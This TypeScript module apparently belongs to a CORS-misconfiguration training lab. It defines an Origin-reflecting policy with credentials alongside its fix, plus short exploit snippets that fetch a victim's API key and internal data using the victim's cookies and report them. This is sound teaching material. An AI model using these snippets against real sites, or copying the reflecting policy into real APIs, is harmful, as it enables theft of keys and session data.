import type { Challenge, ChallengeStage } from './challengeTypes.ts';

/** The bank's CDN in front of the victim's API, e.g. `http://cdn.victim.localhost:5175`. */
export function challengeVictimCdn(stage: ChallengeStage): string {
  return stage.victimCdn;
}

/** Reads the API key with the victim's cookies and reports it. */
const stealKey = `const response = await fetch(\`\${API}/api-key\`, { credentials: 'include' });
report(await response.text());`;

/** Reads the internal data (no login needed), then shows whether the session cookie travels. */
const stealInternal = `const internal = await fetch(\`\${API}/internal\`, { credentials: 'include' });
report(await internal.text());
// The account needs the session cookie: does it travel from here?
const key = await fetch(\`\${API}/api-key\`, { credentials: 'include' });
report(\`api-key: \${key.status} \${await key.text()}\`);`;

/** Reads the API key and reports the status too: the answer may be a 401 when no session arrives. */
const readKeyAnswer = `const response = await fetch(\`\${API}/api-key\`, { credentials: 'include' });
report(\`\${response.status} \${await response.text()}\`);`;

/** The classic misconfiguration: reflect any Origin, with credentials. */
const reflecting = () => ({ origin: { mode: 'reflect' as const }, credentials: true });

/** The fix most challenges share: exactly the victim's app, with credentials. */
const onlyTheApp = (stage: ChallengeStage) => ({
  origin: { mode: 'list' as const, allow: [stage.victimApp] },
  credentials: true,
});

/** An API that reflects any Origin with credentials, and its fix. */
const reflectingApi = { vulnerablePolicy: reflecting, fixedPolicy: onlyTheApp };

/**
 * Parts several challenges share: the usual fix, the usual exploits, the cookie facts. One object, so
 * each challenge file imports one name however many parts it uses.
 */
export const challengeParts = {
  /** The victim's registrable domain, e.g. `victim.localhost`. */
  victimDomain: (stage: ChallengeStage): string => stage.victimDomain,
  regexEscape: (text: string): string => text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&'),
  onlyTheApp,
  reflecting,
  /** Allows origins matching one regular expression, with credentials. */
  regexPolicy: (regex: string, anchor: 'none' | 'start' | 'both') => ({
    origin: { mode: 'list' as const, allow: [{ regex, anchor }] },
    credentials: true,
  }),
  reflectingApi,
  stealKey,
  /** The blog (same site, Lax cookie) reads the API key from an API that reflects the Origin. */
  siblingStealsKey: {
    seat: 'sibling',
    session: 'cookie-lax',
    goal: 'apiKey',
    ...reflectingApi,
    exploit: stealKey,
  } satisfies Partial<Challenge>,
  stealInternal,
  readKeyAnswer,
  cookieFacts:
    'Chromium, Firefox and WebKit (measured in WebKitGTK) send no cookie from a cross-site page or a sandboxed frame, whatever its SameSite (docs/cookies.md).',
};
